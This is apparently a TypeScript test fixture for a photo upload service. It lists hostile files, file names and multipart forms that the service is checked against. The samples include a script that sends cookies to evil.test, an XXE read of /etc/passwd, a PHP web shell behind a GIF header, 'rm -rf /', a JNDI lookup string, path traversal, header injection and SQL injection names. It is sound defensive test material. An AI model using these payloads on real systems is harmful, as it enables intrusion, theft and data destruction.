// Hostile bytes, names and forms for uploads.
import { smallPhoto } from "../../support/service/small-photo.js";

export const text = (content: string) => Buffer.from(content);
/** Appended to an image, a browser might take it for a page. */
export const SCRIPT = "<html><script>fetch('https://evil.test/'+document.cookie)</script>";

/** Files that are not photos. */
export const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
  [
    "SVG with a script",
    () => text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
  ],
  ["SVG after a byte order mark", () => text("\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>")],
  [
    "SVG after whitespace and a comment",
    () => text("\n\n <!-- x --><svg xmlns='http://www.w3.org/2000/svg'/>"),
  ],
  [
    "SVG that includes a local file",
    () =>
      text(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM ` +
          `"file:///etc/passwd">]><svg ` +
          `xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
  ],
  ["SVG in gzip", () => Buffer.from("H4sIAAAAAAAAA7PJKEkFAAAA//8DAAAA", "base64")],
  ["an HTML page", () => text(`<!doctype html>${SCRIPT}`)],
  ["a PDF", () => text("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript>>>> endobj")],
  ["PostScript", () => text("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
  [
    "a script for ImageMagick",
    () =>
      text(
        'push graphic-context\nviewbox 0 0 1 1\nfill "url(https://evil.test/|id)"\npop ' +
          "graphic-context",
      ),
  ],
  [
    "a playlist with a URL",
    () => text("#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/"),
  ],
  ["a program", () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)])],
  ["a ZIP", () => Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(200)])],
  ["a shell script", () => text("#!/bin/sh\nrm -rf /\n")],
  ["a web shell after the signature of GIF", () => text("GIF89a<?php system($_GET['c']); ?>")],
  [
    "an HTML page after the signature of JPEG",
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)]),
  ],
  [
    "an HTML page after the signature of PNG",
    () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), text(SCRIPT)]),
  ],
  ["a WebP of length zero", () => text("RIFF\0\0\0\0WEBP")],
  ["an AVIF of one box", () => Buffer.from("0000001c66747970617669660000000061766966", "hex")],
  [
    "a TIFF whose directory refers to itself",
    () => Buffer.from("49492a0008000000ffff08000000", "hex"),
  ],
  ["a BMP", () => Buffer.concat([text("BM"), Buffer.alloc(60)])],
  ["a thousand zeros", () => Buffer.alloc(1000)],
  ["one byte", () => Buffer.from([0xff])],
];

export const NAMES: [what: string, name: string, kept: RegExp][] = [
  ["climbs out of its folder", "../../../../etc/cron.d/x", /^x$/],
  ["climbs out of its folder as on Windows", "..\\..\\windows\\win.ini", /^win\.ini$/],
  ["is an absolute path", "/etc/passwd", /^passwd$/],
  ["is two dots", "..", /^/],
  ["has a NUL before its end", "a.php\0.png", /^a\.php\.png$/],
  ["has a line end and a header in it", "a.png\r\nset-cookie: x=1", /^a\.pngset-cookie: x=1$/],
  ["reverses the reading direction", "a\u202egnp.exe", /^agnp\.exe$/],
  ["has markup in it", "<img src=x onerror=alert(1)>.png", /^<img src=x onerror=alert\(1\)>\.png$/],
  ["has quotes in it", "a\";filename*=UTF-8''evil.html", /^a";/],
  ["has 5,000 characters", "x".repeat(5000), /^x{200}$/],
  ["looks like SQL", "'); drop table photos; --.png", /^'\); drop table photos; --\.png$/],
  ["is a template", "${jndi:ldap://evil.test/a}{{7*7}}", /a\}\{\{7\*7\}\}$/],
];

export const part = (headers: string[], body: string | Buffer) =>
  Buffer.concat([text(`--x\r\n${headers.join("\r\n")}\r\n\r\n`), Buffer.from(body), text("\r\n")]);
export const disposition = (name: string, filename?: string) =>
  "content-disposition: form-data; " +
  `name="${name}"${filename === undefined ? "" : `; filename="${filename}"`}`;
export const END = text("--x--\r\n");

export const FORMS: [what: string, body: () => Buffer][] = [
  [
    "a thousand parts",
    () =>
      Buffer.concat([
        ...Array.from({ length: 1000 }, (_, i) => part([disposition(`f${i}`)], "x")),
        END,
      ]),
  ],
  [
    "a hundred files",
    () =>
      Buffer.concat([
        ...Array.from({ length: 100 }, () => part([disposition("file", "a.png")], smallPhoto())),
        END,
      ]),
  ],
  [
    "a field of 100 kB",
    () => Buffer.concat([part([disposition("field")], "x".repeat(100_000)), END]),
  ],
  [
    "a part with 100 headers",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.txt"), ...Array.from({ length: 100 }, (_, i) => `x-${i}: y`)],
          "no photo",
        ),
        END,
      ]),
  ],
  [
    "a part with a header of 60 kB",
    () => Buffer.concat([part([disposition("file", "a".repeat(60_000))], "no photo"), END]),
  ],
  [
    "a part without a name",
    () => Buffer.concat([part(["content-disposition: form-data"], "x"), END]),
  ],
  [
    "a file whose name is __proto__",
    () => Buffer.concat([part([disposition("__proto__", "a.png")], smallPhoto()), END]),
  ],
  [
    "a field whose name is constructor",
    () => Buffer.concat([part([disposition("constructor")], "x"), END]),
  ],
  [
    "a form inside a part",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-type: multipart/mixed; boundary=y"],
          "--y\r\n\r\nx\r\n--y--",
        ),
        END,
      ]),
  ],
  [
    "a file in base64",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-transfer-encoding: base64"],
          smallPhoto().toString("base64"),
        ),
        END,
      ]),
  ],
  ["a missing end", () => part([disposition("file", "a.png")], text("GIF89a"))],
  ["only boundaries", () => text("--x\r\n".repeat(5000))],
  ["a missing boundary", () => text("x".repeat(50_000))],
];
